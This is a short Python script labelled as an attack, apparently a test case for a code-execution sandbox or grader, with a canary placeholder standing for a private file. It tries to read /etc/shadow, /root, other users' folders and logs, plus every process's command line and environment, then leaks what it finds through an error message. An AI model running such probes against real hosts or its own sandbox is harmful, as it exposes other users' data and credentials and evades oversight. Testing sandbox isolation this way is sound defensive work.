# Attack: look around the host as far as the sandbox lets us: a private file in another user's
# private folder, the grader's home, other processes (and their command lines and environment).
import os

seen = []
for path in ("{{CANARY}}", "/root", os.path.expanduser("~"), "/home", "/etc/shadow", "/var/log"):
    try:
        if os.path.isdir(path):
            seen.append(f"{path}: {sorted(os.listdir(path))[:5]}")
        else:
            with open(path) as fh:
                seen.append(f"{path}: {fh.read(200)}")
    except OSError:
        pass
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            cmdline = fh.read().replace(b"\0", b" ").decode(errors="replace")
        with open(f"/proc/{pid}/environ", "rb") as fh:
            environ = fh.read(100)
        seen.append(f"pid {pid}: {cmdline[:80]} {environ[:20]!r}")
    except OSError:
        pass
print("\n".join(seen))
raise RuntimeError(f"seen {len(seen)}: " + " | ".join(seen))
